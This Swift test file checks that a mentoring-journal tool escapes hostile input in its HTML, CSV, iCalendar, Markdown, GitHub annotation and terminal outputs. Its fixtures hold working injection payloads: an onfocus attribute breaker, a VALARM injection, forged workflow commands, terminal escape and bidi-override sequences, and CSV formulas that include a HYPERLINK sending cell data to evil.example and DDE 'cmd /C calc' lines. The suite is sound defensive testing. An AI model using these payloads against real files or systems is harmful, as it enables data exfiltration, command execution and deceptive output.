import Foundation
import Testing

@testable import JournalKit

/// The attacks on journal's outputs that were shown to work: a journal whose notes and folder
/// names try to break every format, run through the built program and read back by the
/// program each output is for.
@Suite struct HostileOutputTests {
  /// A folder name that closes the HTML attribute it is written into (`"` + U+0301 is one
  /// `Character`, so a comparison with `"` misses it).
  static let attributeBreaker = "x\"\u{301} autofocus onfocus=document.body.remove() x"
  /// A folder name that injects iCalendar properties and an alarm into `UID:`.
  static let uidBreaker = "y\r\nBEGIN:VALARM\r\nACTION:AUDIO\r\nTRIGGER:-PT1M\r\nEND:VALARM\r\nX-Y:z"
  /// A name that forges workflow commands and switches them off.
  static let commandForger =
    "Sam\r\n::error file=forged.md,line=1::forged annotation\r\n::stop-commands::pause\r\n##[error]legacy"

  /// Sam's notes carry the attacks in their name, role, goals and actions; two more people
  /// carry them in their folder names.
  static func hostileJournal() throws -> TemporaryFolder {
    let folder = try TemporaryFolder()
    // journal's JSON strings are YAML double-quoted scalars, with every control escaped.
    let yaml = JSONText.string
    try folder.write([
      "journal.yml": "title: \(yaml("Team <script>alert(1)</script> \u{1B}]0;title\u{7}"))\n",
      "mentees/sam/profile.md": """
        ---
        name: \(yaml(commandForger + " \u{1B}]8;;http://evil.example/\u{7}link\u{1B}]8;;\u{7} \u{202E}gnp.exe"))
        role: \(yaml("<img src=x onerror=alert(1)> **bold** [link](javascript:alert(1)) \u{1B}[2J\u{9B}31m"))
        cadence: 1w
        ---

        """,
      "mentees/sam/plans/growth.md": """
        ---
        title: Growth
        created: 2026-09-01
        goals:
          - id: reviews
            description: \(yaml("<script>alert(1)</script> | cell | \r\n# heading"))
            metric: rework
            baseline: 40
            target: 10
        ---
        ## Actions

        """,
      "mentees/sam/sessions/2026-10-01.md": """
        ---
        date: 2026-10-01
        type: performance-improvement
        plan: growth
        metrics:
          rework: 30
        follow-up: 2026-10-08
        ---
        ## Strengths

        - Fixed the \u{202E}gnp.exe\u{202C} importer and \u{1B}[31mtold\u{1B}[0m the team the same day

        ## Improvements

        - Missed the review of the 09-28 release notes, which went out with two broken links

        ## Actions

        - [ ] =HYPERLINK("http://evil.example/?"&A1,"click") due:2026-10-10 owner:sam
        - [ ] +cmd|' /C calc'!A0 due:2026-10-11 owner:sam
        - [ ] @SUM(1+1)*cmd|' /C calc'!A0 due:2026-10-12
        - [ ] Split ,\u{301} the "\u{301} export <b>job</b> due:2026-10-13

        """,
      "mentees/\(attributeBreaker)/profile.md": "---\nname: Attribute\ncadence: 1w\n---\n",
      "mentees/\(attributeBreaker)/sessions/2026-10-02.md":
        "---\ndate: 2026-10-02\ntype: career-development\nfollow-up: 2026-10-09\n---\n## Strengths\n\n- Ran the 10-01 retro and wrote up its three decisions\n",
      "mentees/\(uidBreaker)/profile.md": "---\nname: Calendar\n---\n",
      "mentees/\(uidBreaker)/sessions/2026-10-03.md":
        "---\ndate: 2026-10-03\ntype: career-development\nfollow-up: 2026-12-09\n---\n## Actions\n\n- [ ] Draft the on-call rota due:2026-12-01\n",
    ])
    return folder
  }

  /// Runs journal in the hostile journal, on a fixed day unless `dated` is false (for the
  /// commands that take no day).
  static func run(_ arguments: [String], in journal: TemporaryFolder, dated: Bool = true) throws -> Run {
    try runJournal(arguments + (dated ? ["--today", "2026-11-26"] : []), in: journal.path)
  }

  // MARK: HTML

  @Test(.enabled(if: HTMLReportTests.chromium != nil, "needs Chromium (scripts/install-deps --test)"))
  func htmlAttributesStayClosedInChromium() throws {
    let journal = try Self.hostileJournal()
    let path = journal.path + "/summary.html"
    let run = try Self.run(["summary", "--format", "html", "--output", path], in: journal)
    #expect(run.status == 0, "\(run.stderr)")
    let dom = try runProgram(HTMLReportTests.chromium!, [
      "--headless", "--no-sandbox", "--disable-gpu", "--user-data-dir=\(journal.path)/profile",
      "--dump-dom", "file://\(path)",
    ]).stdout
    let attributes = try htmlAttributeNames(dom)
    #expect(!attributes.contains("onfocus") && !attributes.contains("autofocus"), "\(attributes.sorted())")
    #expect(dom.contains("Attribute"), "the page kept its body")
  }

  // MARK: GitHub workflow commands

  @Test(.enabled(if: pythonHas("json")))
  func githubAnnotationsCannotBeForged() throws {
    let journal = try Self.hostileJournal()
    let run = try Self.run(["check", "--format", "github"], in: journal)
    let json = try Self.run(["check", "--format", "json"], in: journal)
    let findings = try #require(
      try JSONSerialization.jsonObject(with: Data(json.stdout.utf8)) as? [String: Any])["diagnostics"] as? [Any]
    let commands = try workflowCommands(run.stdout)
    #expect(commands.count == findings?.count, "\(commands)")
    for command in commands {
      #expect(["error", "warning"].contains(command.command), "\(command)")
      #expect(Set(command.properties.keys) == ["file", "line", "col", "title"], "\(command)")
    }
    #expect(!commands.contains { $0.properties["file"] == "forged.md" })
  }

  // MARK: CSV

  @Test(.enabled(if: pythonHas("csv")))
  func csvCannotForgeRowsColumnsOrFormulas() throws {
    let journal = try Self.hostileJournal()
    let run = try Self.run(["export", "actions", "--format", "csv"], in: journal, dated: false)
    #expect(run.status == 0, "\(run.stderr)")
    let folder = try TemporaryFolder()
    try folder.write(["actions.csv": run.stdout])
    let read = try runPython(
      """
      import csv, json, sys
      print(json.dumps(list(csv.reader(open(sys.argv[1], newline='', encoding='utf-8')))))
      """, [folder.path + "/actions.csv"])
    #expect(read.status == 0, "\(read.errors)")
    let rows = try #require(try JSONSerialization.jsonObject(with: Data(read.output.utf8)) as? [[String]])
    // The header, Sam's four actions and the on-call rota, nine columns each.
    #expect(rows.count == 1 + 4 + 1, "\(rows)")
    #expect(rows.allSatisfy { $0.count == 9 }, "\(rows)")
    for cell in rows.joined() {
      #expect(!["=", "+", "-", "@", "\t", "\r"].contains(cell.unicodeScalars.first.map(String.init) ?? ""), "\(cell)")
    }
  }

  // MARK: iCalendar

  @Test(.enabled(if: pythonHas("icalendar")))
  func icalendarCannotInjectProperties() throws {
    let journal = try Self.hostileJournal()
    let run = try Self.run(["export", "follow-ups", "--format", "ics"], in: journal)
    #expect(run.status == 0, "\(run.stderr)")
    let folder = try TemporaryFolder()
    try folder.write(["follow-ups.ics": run.stdout])
    let read = try runPython(
      """
      import icalendar, sys
      calendar = icalendar.Calendar.from_ical(open(sys.argv[1], 'rb').read())
      for component in calendar.walk():
          print(component.name, sorted(component.keys()))
      """, [folder.path + "/follow-ups.ics"])
    #expect(read.status == 0, "\(read.errors)")
    let event = "VEVENT ['DESCRIPTION', 'DTEND', 'DTSTAMP', 'DTSTART', 'SUMMARY', 'TRANSP', 'UID']"
    let lines = read.output.split(separator: "\n").map(String.init)
    #expect(!read.output.contains("VALARM"), "\(read.output)")
    #expect(lines.dropFirst().allSatisfy { $0 == event }, "\(read.output)")
  }

  // MARK: Terminal

  /// No control character or bidirectional override from a note reaches the terminal.
  static func expectInert(_ text: String, _ command: String, sourceLocation: Testing.SourceLocation = #_sourceLocation) {
    let raw = text.unicodeScalars.filter {
      ($0.value < 0x20 && $0 != "\n") || (0x7F...0x9F).contains($0.value)
        || (0x202A...0x202E).contains($0.value) || (0x2066...0x2069).contains($0.value)
    }
    #expect(raw.isEmpty, "\(command) printed \(raw.map { String($0.value, radix: 16) })", sourceLocation: sourceLocation)
  }

  @Test func terminalOutputsShowControlsVisibly() throws {
    let journal = try Self.hostileJournal()
    for arguments in [["check"], ["show", "sam"], ["summary"], ["summary", "sam"], ["rules"]] {
      let run = try Self.run(arguments, in: journal, dated: arguments != ["rules"])
      #expect(!run.stdout.isEmpty, "\(arguments)")
      Self.expectInert(run.stdout, arguments.joined(separator: " "))
      Self.expectInert(run.stderr, arguments.joined(separator: " "))
    }
    let show = try Self.run(["show", "sam"], in: journal)
    #expect(show.stdout.contains("\\u{1B}[2J"), "\(show.stdout)")
    #expect(show.stdout.contains("\\u{202E}gnp.exe"), "\(show.stdout)")
  }

  @Test func errorsShowControlsVisibly() throws {
    let journal = try Self.hostileJournal()
    let run = try Self.run(["show", "\u{1B}]0;owned\u{7}\u{1B}[2J"], in: journal)
    #expect(run.status == 2)
    Self.expectInert(run.stderr, "show")
    #expect(run.stderr == "journal: no person `\\u{1B}]0;owned\\u{7}\\u{1B}[2J` in the journal\n")
  }

  @Test func logShowsControlsVisibly() throws {
    let repo = try GitFixture()
    try repo.write(["mentees/alice/sessions/2026-11-20.md": session])
    try repo.git("add", ".")
    try repo.git(
      ["-c", "user.name=Mallory \u{1B}]0;owned\u{7}", "commit", "-q", "-m", "notes \u{202E}gnp.exe \u{1B}[2J"])
    let run = try repo.journal("log")
    #expect(run.status == 0, "\(run.stderr)")
    Self.expectInert(run.stdout, "log")
    // git drops the BEL at the end of the name, as it drops spaces there.
    #expect(run.stdout.contains("Mallory \\u{1B}]0;owned "), "\(run.stdout)")
  }

  // MARK: Markdown

  @Test(.enabled(if: cmarkGFM != nil, "needs cmark-gfm (scripts/install-deps --test)"))
  func markdownSummaryHoldsNoHTMLOrLinks() throws {
    let journal = try Self.hostileJournal()
    let run = try Self.run(["summary", "--format", "markdown"], in: journal)
    #expect(run.status == 0, "\(run.stderr)")
    let html = try renderGFM(run.stdout)
    let tags = try htmlTagNames(html)
    for forbidden in ["script", "img", "a", "b", "em", "del", "code"] {
      #expect(!tags.contains(forbidden), "\(forbidden) in \(html)")
    }
    // The title is the only first-level heading: no line of a note became one.
    #expect(tags.filter { $0 == "h1" }.count == 1, "\(html)")
    #expect(!html.contains("raw HTML omitted"), "\(html)")
  }

  // MARK: Misplaced files

  @Test func misplacedFilesAreNamedNotShown() throws {
    let journal = try Self.hostileJournal()
    try journal.write([
      "mentees/sam/sessions/private/x.md": "PRIVATE-LINE about someone\n",
      "mentees/sam/notes.md": "ANOTHER-PRIVATE-LINE\n",
    ])
    let run = try Self.run(["check"], in: journal)
    #expect(run.stdout.contains("`x.md` is not where journal looks for notes"))
    #expect(run.stdout.contains("`notes.md` is not where journal looks for notes"))
    #expect(!run.stdout.contains("PRIVATE-LINE"), "\(run.stdout)")
  }
}
